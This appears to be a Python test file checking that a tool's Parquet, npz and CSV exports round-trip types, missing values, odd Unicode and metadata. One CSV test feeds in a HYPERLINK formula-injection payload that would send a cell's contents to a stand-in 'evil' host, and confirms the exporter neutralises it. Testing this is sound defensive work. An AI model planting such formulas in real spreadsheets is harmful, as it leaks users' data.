"""Tables as Parquet and npz: what was in them is read back by others."""

from __future__ import annotations

import io
import json
from pathlib import Path

import numpy as np
import pytest

from diffviews_desktop.errors import UsageError
from diffviews_desktop.exports import registry
from diffviews_desktop.exports.contents import Arrays, Table
from diffviews_desktop.exports.with_record import write_with_record
from diffviews_desktop.text.plain import from_csv_cell
from diffviews_desktop.values.columns import Column

RECORD = {"kind": "runs", "model": "m", "folder": "/a b/ä"}
DAYS = np.array(["2020-01-02", "NaT", "2021-03-04"], "datetime64[D]")
TABLE = Table(
    {
        "sample_id": ["=1", "ä", "c,d"],
        "role": np.array(["anchor", "", "x"]),
        "x": np.array([0.5, np.nan, 2.0], np.float32),
        "count": np.array([1, 2, 3]),
        "day": Column(DAYS),
        "kind": Column(np.array([1, -1, 0]), names=("red", "blue")),
        "whole": Column(np.array([5, 0, 7]), missing=np.array([False, True, False])),
        "file": np.array([1, 0, 1]),
    },
    RECORD,
)


def test_parquet_keeps_types_gaps_and_the_record(tmp_path: Path) -> None:
    import fastparquet
    import pandas

    file = tmp_path / "a.parquet"
    assert write_with_record(TABLE, file) == (file,)
    with open(file, "rb") as opened:
        parquet = fastparquet.ParquetFile(opened)
        frame, said = parquet.to_pandas(), parquet.key_value_metadata["diffviews"]
    assert list(frame.columns) == list(TABLE.columns)
    assert list(frame["sample_id"]) == ["=1", "ä", "c,d"]
    assert frame["x"].dtype == np.float32
    assert frame["x"].isna().tolist() == [False, True, False]
    assert frame["day"].isna().tolist() == [False, True, False]
    assert frame["day"][0] == pandas.Timestamp("2020-01-02")
    assert frame["kind"].tolist()[::2] == ["blue", "red"]
    assert frame["whole"].isna().tolist() == [False, True, False]
    assert json.loads(said) == RECORD


def test_npz_needs_no_pickle(tmp_path: Path) -> None:
    file = tmp_path / "a.npz"
    write_with_record(TABLE, file)
    with np.load(file, allow_pickle=False) as arrays:
        assert set(arrays) == {*TABLE.columns, "record"}
        assert arrays["sample_id"].tolist() == ["=1", "ä", "c,d"]
        assert arrays["kind"].tolist() == ["blue", "", "red"]
        assert arrays["x"].dtype == np.float32
        assert json.loads(str(arrays["record"])) == RECORD


def test_a_csv_has_its_record_beside_it(tmp_path: Path) -> None:
    files = write_with_record(TABLE, tmp_path / "a.csv")
    assert files == (tmp_path / "a.csv", tmp_path / "a.diffviews.json")
    assert json.loads(files[1].read_text()) == RECORD
    assert files[0].read_text().splitlines()[1] == "'=1,anchor,0.5,1,2020-01-02,blue,5,1"


def test_what_a_spreadsheet_would_split_is_one_cell_for_others(tmp_path: Path) -> None:
    import pandas

    texts = ["c\t=1+1", 'b;=HYPERLINK("http://evil/?"&A1);x', "a|b", "two\n- lines", "plain"]
    name = "b;=1"
    write_with_record(Table({name: texts, "x": np.arange(5)}), tmp_path / "a.csv")
    frame = pandas.read_csv(tmp_path / "a.csv")
    assert list(map(from_csv_cell, frame.columns)) == [name, "x"]
    assert list(map(from_csv_cell, frame[frame.columns[0]])) == texts
    assert frame["x"].tolist() == list(range(5))
    written = (tmp_path / "a.csv").read_bytes().split(b"\r\n")
    assert written[:2] == [b"\"'b;'=1\",x", b"\"'c\t'=1+1\",0"]
    assert written[-2:] == [b"plain,4", b""]


@pytest.mark.parametrize("name", ["a.csv", "a.parquet", "a.npz"])
def test_an_empty_table_is_a_file_as_well(name: str) -> None:
    file = io.BytesIO()
    registry.write(Table({"a": [], "b": np.zeros(0)}), name, file)
    assert file.tell()


def test_half_of_a_surrogate_pair_is_written_so_that_every_program_can_read_it(
    tmp_path: Path,
) -> None:
    import fastparquet

    odd = "a\ud800"
    table = Table(
        {"sample_id": [odd, "ä\0"], odd: Column(np.array([0, -1]), names=(odd,))}, {"a": odd}
    )
    for name in ("a.csv", "a.parquet", "a.npz"):
        write_with_record(table, tmp_path / name)
    assert "a\\ud800" in (tmp_path / "a.csv").read_text()
    with open(tmp_path / "a.parquet", "rb") as opened:
        frame = fastparquet.ParquetFile(opened).to_pandas()
    assert list(frame.columns) == ["sample_id", "a\\ud800"]
    assert frame["sample_id"].tolist() == ["a\\ud800", "ä\0"]
    assert frame["a\\ud800"].tolist() == ["a\\ud800", None]
    with np.load(tmp_path / "a.npz") as arrays:
        assert set(arrays) == {"sample_id", "a\\ud800", "record"}
        assert arrays["sample_id"][0] == odd


@pytest.mark.parametrize("name", ["a.csv", "a.parquet", "a.npz"])
def test_columns_of_names_that_become_the_same_are_all_written(name: str, tmp_path: Path) -> None:
    import pandas

    names = ["a\ud800", "a\\ud800", "b\0", "b\\x00"]
    file = tmp_path / name
    write_with_record(Table({one: np.array([i]) for i, one in enumerate(names)}), file)
    if name == "a.npz":
        with np.load(file) as arrays:
            read = {one: int(values[0]) for one, values in arrays.items()}
    else:
        frame = pandas.read_csv(file) if name == "a.csv" else pandas.read_parquet(file)
        read = {one: int(frame[one][0]) for one in frame.columns}
    assert read == {"a\\ud800": 0, "a\\ud800 (2)": 1, "b\\x00": 2, "b\\x00 (2)": 3}


def test_texts_of_any_length_are_written_piece_by_piece(tmp_path: Path) -> None:
    texts = ["y" * (number % 3) for number in range(5000)] + ["ä" * 3000]
    write_with_record(Table({"a": texts, "b": [""] * 5001}), tmp_path / "a.npz")
    with np.load(tmp_path / "a.npz") as arrays:
        assert arrays["a"].tolist() == texts
        assert arrays["b"].tolist() == [""] * 5001


def test_an_array_of_texts_that_would_fill_the_memory_is_refused(tmp_path: Path) -> None:
    texts = ["x" * 1_000_000, *map(str, range(399))]
    for content in (Table({"said": texts}), Arrays({"said": texts})):
        with pytest.raises(UsageError, match=r"“said” .* 1,000,000 letters, .* Choose CSV"):
            write_with_record(content, tmp_path / "a.npz")
    assert not list(tmp_path.iterdir())
    write_with_record(Table({"said": texts}), tmp_path / "a.csv")


def test_arrays_of_any_name_are_read_back(tmp_path: Path) -> None:
    made = {"run_3/computed/a+b": np.eye(2, dtype=np.float32), "file": np.arange(3)}
    write_with_record(Arrays(made, RECORD), tmp_path / "a.npz")
    with np.load(tmp_path / "a.npz") as arrays:
        assert (arrays["run_3/computed/a+b"] == np.eye(2)).all()
        assert arrays["file"].tolist() == [0, 1, 2]
